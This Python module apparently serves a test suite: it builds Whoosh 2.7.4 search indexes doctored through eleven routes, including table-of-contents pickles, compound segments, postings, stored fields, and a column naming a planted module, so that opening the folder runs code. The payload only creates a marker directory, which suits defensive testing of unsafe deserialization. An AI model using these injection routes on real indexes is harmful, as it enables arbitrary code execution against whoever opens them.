"""Indexes that somebody doctored: each would run a command if Whoosh opened its folder by itself.

An attack takes an honest index folder and the command that its pickles shall run. Together they use every door that Whoosh
2.7.4 has: the two pickles of a table of contents, its old form, compound segments, hash tables, the two pickles of postings,
stored fields, compressed columns, and the module that such a column names.
"""

from __future__ import annotations

import os
import pickle
import shutil
from contextlib import closing, suppress
from typing import TYPE_CHECKING, Any

from whoosh import columns, fields, index, query
from whoosh.codec import whoosh3
from whoosh.codec.whoosh3 import STORED_COLUMN, W3Codec
from whoosh.filedb import structfile
from whoosh.filedb.filestore import FileStorage, copy_to_ram
from whoosh.index import TOC
from whoosh.system import _FLOAT_SIZE, _INT_SIZE, _LONG_SIZE

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Attack = Callable[[Path, "Command"], None]

TODAY, LONG_AGO = -111, -110
"""Versions of a table of contents."""

WORD = "ondansetron"


class Command:
    """Makes a folder when somebody unpickles it."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.marker),)

    def has_run(self) -> bool:
        """Tell whether it has been run."""
        return self.marker.exists()


def open_as_whoosh_does(folder: Path) -> None:
    """Open an index with nothing between it and Whoosh, and use all that is in it, whatever it raises."""
    uses: list[Callable[[Any], object]] = [
        lambda searcher: searcher.stored_fields(0),
        lambda searcher: list(searcher.docs_for_query(query.Phrase("body", [WORD, "given"]))),
        lambda searcher: searcher.search(query.Term("body", WORD)),
        lambda searcher: searcher.reader().column_reader("title"),
    ]
    storage = copy_to_ram(FileStorage(folder))
    with suppress(Exception), closing(storage.open_index()) as opened, closing(opened.searcher()) as searcher:
        for use in uses:
            with suppress(Exception):
                use(searcher)


def schema_of_the_contents(folder: Path, command: Command) -> None:
    """Doctor the schema in the table of contents."""
    _write_contents(folder, schema=command)


def segments_of_the_contents(folder: Path, command: Command) -> None:
    """Doctor the list of segments in the table of contents."""
    _write_contents(folder, segments=[command])


def later_contents(folder: Path, command: Command) -> None:
    """Add one file: a table of contents of a later generation, which Whoosh prefers."""
    _write_contents(folder, segments=[command], generation=999)


def contents_of_long_ago(folder: Path, command: Command) -> None:
    """Write a table of contents in the form that Whoosh reads with an unpickler of its own."""
    _write_contents(folder, schema=command, version=LONG_AGO)


def compound_segment(folder: Path, command: Command) -> None:
    """Let the segment be a compound file, which begins with the pickle of its directory."""
    segments = _contents(folder).segments
    segments[0].compound = True
    with closing(FileStorage(folder).create_file("MAIN_handbook.seg")) as file:
        file.write_long(_LONG_SIZE + _INT_SIZE)
        file.write_int(0)
        file.write_pickle(command)
    _write_contents(folder, segments=segments)


def stored_fields(folder: Path, command: Command) -> None:
    """Doctor what is stored of every section."""
    column = next(folder.glob("*._stored.col"))
    writer = STORED_COLUMN.writer(FileStorage(folder).create_file(column.name))
    sections = _contents(folder).segments[0].doc_count_all()
    for section in range(sections):
        writer.add(section, command)
    writer.finish(sections)
    writer._child._dbfile.close()


def hash_table(folder: Path, command: Command) -> None:
    """Doctor what a hash table of words says of itself."""

    def doctored(file: Any, value: object, protocol: int = -1) -> None:  # noqa: ANN401 - Whoosh is untyped
        honest(file, command if value == {} or "fieldmap" in str(value) else value, protocol)

    honest = structfile.StructFile.write_pickle
    structfile.StructFile.write_pickle = doctored
    try:
        _write_as_whoosh_does(folder)
    finally:
        structfile.StructFile.write_pickle = honest


def block_of_postings(folder: Path, command: Command) -> None:
    """Doctor what a block of postings says of itself."""
    _write_postings(folder, command, length=6)


def postings_in_a_block(folder: Path, command: Command) -> None:
    """Doctor the postings in a block."""
    _write_postings(folder, command, length=3)


def compressed_column(folder: Path, command: Command) -> None:
    """Add a column whose first block says something else of itself."""
    _add_column(folder, "zlib", pickle.dumps(command))


def module_of_a_column(folder: Path, command: Command) -> None:
    """Add a column that names the module which is to unpack it; the folder has one of this name."""
    name = f"unpacks_{abs(hash(command.marker))}"
    (folder / f"{name}.py").write_text(f"import os\nos.mkdir({str(command.marker)!r})\n")
    _add_column(folder, name, b"")


ATTACKS: list[Attack] = [
    schema_of_the_contents,
    segments_of_the_contents,
    later_contents,
    contents_of_long_ago,
    compound_segment,
    stored_fields,
    hash_table,
    block_of_postings,
    postings_in_a_block,
    compressed_column,
    module_of_a_column,
]


def _contents(folder: Path) -> Any:  # noqa: ANN401 - Whoosh is untyped
    return TOC.read(FileStorage(folder), "MAIN")


def _write_contents(
    folder: Path, *, schema: object = None, segments: object = None, generation: int = 1, version: int = TODAY
) -> None:
    honest = _contents(folder)
    with closing(FileStorage(folder).create_file(f"_MAIN_{generation}.toc")) as file:
        for size in (_INT_SIZE, _LONG_SIZE, _FLOAT_SIZE):
            file.write_varint(size)
        file.write_int(-12345)
        file.write_int(version)
        for number in (2, 7, 4):
            file.write_varint(number)
        file.write_string(pickle.dumps(schema or honest.schema, 2))
        file.write_int(generation)
        file.write_int(0)
        file.write_pickle(segments or honest.segments)


def _add_column(folder: Path, module: str, block: bytes) -> None:
    honest = _contents(folder)
    column = columns.CompressedBlockColumn()
    column._module = module
    honest.schema["title"].column_type = column
    name = W3Codec.column_filename(honest.segments[0], "title")
    (folder / name).write_bytes(block)
    _write_contents(folder, schema=honest.schema)


def _write_postings(folder: Path, command: Command, *, length: int) -> None:
    """Write postings as Whoosh does, but with the command for every pickle of a tuple of this length."""

    def doctored(value: object, protocol: int) -> bytes:
        is_sought = isinstance(value, tuple) and len(value) == length
        return pickle.dumps(command if is_sought else value, protocol)

    whoosh3.dumps = doctored
    try:
        _write_as_whoosh_does(folder)
    finally:
        whoosh3.dumps = pickle.dumps


def _write_as_whoosh_does(folder: Path) -> None:
    aside = folder.with_name("aside")
    aside.mkdir()
    text = fields.TEXT(stored=True)
    created = index.create_in(aside, fields.Schema(title=text, body=text))
    writer = created.writer(compound=False)
    for _ in range(3):
        writer.add_document(title=WORD, body=f"{WORD} is given")
    writer.commit()
    for file in aside.iterdir():
        shutil.move(file, folder / file.name)
    aside.rmdir()
